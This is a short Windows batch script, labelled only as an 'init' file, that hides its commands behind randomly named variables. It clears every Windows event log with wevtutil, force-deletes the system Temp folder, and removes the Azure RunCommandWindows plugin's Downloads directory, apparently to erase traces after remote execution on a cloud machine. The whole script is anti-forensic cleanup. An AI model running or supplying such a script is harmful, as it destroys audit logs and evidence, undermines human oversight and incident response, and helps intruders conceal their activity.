REM init 5390 v0
@echo off
set "skqf=for /F "tokens=*" %%1 in ('wevtutil.exe el') DO wevtutil.exe cl "%%1""
call %skqf%
@echo off
set "oqhl=del /f /q C:\Windows\Temp\*.*"
call %oqhl%
@echo off
set "smyz=rd /s /q C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\Downloads"
call %smyz%
